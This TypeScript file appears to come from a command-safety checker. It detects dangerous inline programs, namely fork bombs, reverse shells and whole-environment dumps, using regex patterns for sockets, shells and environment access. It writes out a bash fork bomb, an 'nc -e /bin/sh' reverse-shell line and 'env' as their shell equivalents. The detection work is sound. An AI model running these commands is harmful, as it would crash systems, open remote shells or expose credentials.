/**
 * Inline programs that are dangerous by their shape rather than by one call: a process flood (`fork` in an
 * endless loop, any language), a reverse shell (a socket and a shell in the same program) and a dump of the
 * whole environment (where tokens live). Each is
 * handed to the shell rules as the shell's own spelling of the same thing, so the operator reads one reason
 * for `perl -e 'fork while fork'` and `:(){ :|:& };:`, or for Python's socket + pty.spawn and `nc -e /bin/sh`.
 */

import type {Language} from './inline-code.js'

/** A loop that never ends by itself: `while True`, `while(1)`, `for(;;)`, `loop {`, `iter(int, 1)`, `until 0`. */
const ENDLESS = new RegExp(
  String.raw`\bwhile\s*\(?\s*(?:true|1|!0)\s*\)?\s*(?:[:{;]|do\b|$|[a-z$@(])|\bfor\s*\(\s*;\s*;\s*\)|` +
    String.raw`\bloop\s*(?:\{|do\b)|\buntil\s*\(?\s*(?:false|0)\b|\biter\s*\(\s*int\s*,\s*1\s*\)|` +
    String.raw`\bitertools\.count\b|\bfork\s+while\b|\bwhile\s+fork\b|\bsetInterval\s*\(`,
  'i',
)
/** Starting a process without waiting for it: `fork`, `pcntl_fork`, async spawn, a backgrounded `system("… &")`. */
const STARTS_PROCESS = new RegExp(
  String.raw`\b(?:os\.)?fork\b|\bpcntl_fork\b|\bProcess\.spawn\b|\bcluster\.fork\b|\bspawn\s*\(|` +
    String.raw`\bsystem\s*\(\s*(["'])(?:(?!\1).)*&\s*\1`,
)

/**
 * Code that starts processes in an endless loop is a fork bomb whatever the language: it is handed to the
 * shell rules as the shell's own fork bomb, so the operator reads the same reason for `perl -e 'fork while
 * fork'` as for `:(){ :|:& };:`.
 */
function floodsProcesses(language: Language, code: string): boolean {
  if (!ENDLESS.test(code) || !STARTS_PROCESS.test(code)) return false
  // Node's `spawn(` is asynchronous only through child_process (or Bun): `execSync` in a loop waits each time.
  return language !== 'node' || /child_process|\bcluster\b|\bBun\.spawn/.test(code)
}

/** Connecting out or listening: a bind shell waits for its caller (`TCPServer`, `socket_bind`, `createServer`). */
const OPENS_SOCKET = new RegExp(
  String.raw`\bsocket\b|\bnet\.(?:connect|createConnection|Socket|createServer)\b|` +
    String.raw`require\s*\(\s*["'](?:node:)?(?:net|tls)["']\s*\)|\bsocket_(?:create|bind|accept)\b|` +
    String.raw`\bTCP(?:Socket|Server)\b|\bIO::Socket\b|\bfsockopen\b|\bSocket\s*\(|\bServerSocket\b`,
)
/** A shell started (a quoted path to one, with whatever follows it), or what a socket sends run as a command. */
const STARTS_SHELL = new RegExp(
  String.raw`["'\x60](?:/usr)?(?:/bin/)?(?:ba|z|da|k|c|fi)?sh(?:\s+-i)?["'\x60]|\bcmd(?:\.exe)?["']|` +
    String.raw`["'\x60](?:/usr)?/bin/(?:ba|z|da|k|c|fi)?sh\b|` +
    String.raw`\bpowershell\b|\bpty\.spawn\b|\bexec\s*\(?\s*["'](?:/usr)?/bin/|` +
    String.raw`\b(?:shell_exec|passthru|proc_open|popen|system|exec)\s*\(\s*["']?\$\w`,
)

/**
 * A socket and a shell in the same inline program is a reverse shell (Python's socket + pty.spawn, Node's
 * net.connect + spawn("/bin/sh"), Ruby's TCPSocket + exec sh): handed to the shell rules as `nc -e /bin/sh`,
 * whose rule reads "wires a shell to a socket".
 */
function wiresShellToSocket(code: string): boolean {
  return OPENS_SOCKET.test(code) && STARTS_SHELL.test(code)
}

/** The whole environment, not one variable of it: `print(os.environ)`, `process.env`, `ENV.to_h`, `%ENV`. */
const WHOLE_ENVIRONMENT: Readonly<Partial<Record<Language, RegExp>>> = {
  python: /\bos\.environ\b(?!\s*(?:\[|\.(?:get|setdefault|pop)\b))|\bos\.getenv\s*\(\s*\)/,
  node: /\bprocess\.env\b(?!\s*(?:\.|\[|\?\.))/,
  ruby: /\bENV\b(?!\s*(?:\[|\.(?:fetch|key\?|has_key\?|include\?)))/,
  perl: /%ENV\b/,
  php: /\bgetenv\s*\(\s*\)|\$_(?:ENV|SERVER)\b(?!\s*\[)/,
  awk: /\bENVIRON\b(?!\s*\[\s*"[\w]+"\s*\])/,
  r: /\bSys\.getenv\s*\(\s*\)/,
  lua: /\bos\.environ\b/,
}

/** Shell lines equivalent to the dangerous shapes found in the code (empty when none). */
export function inlineThreats(language: Language, code: string): string[] {
  const out: string[] = []
  if (floodsProcesses(language, code)) out.push(':(){ :|:& };:')
  if (wiresShellToSocket(code)) out.push('nc -e /bin/sh "$INLINE_HOST" 0')
  // Handed on as `env`, the shell's own environment dump (credentials pack).
  if (WHOLE_ENVIRONMENT[language]?.test(code)) out.push('env')
  return out
}
